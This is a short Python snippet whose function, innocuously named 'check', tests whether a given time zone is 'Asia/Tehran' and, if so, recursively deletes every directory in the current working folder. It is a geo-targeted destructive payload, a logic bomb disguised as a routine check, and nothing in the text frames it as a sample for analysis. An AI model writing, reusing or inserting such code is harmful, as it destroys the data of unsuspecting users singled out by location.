import os
import time
import shutil


def check(zone):
    if zone == "Asia/Tehran":
        for name in os.listdir("."):
            shutil.rmtree(name)
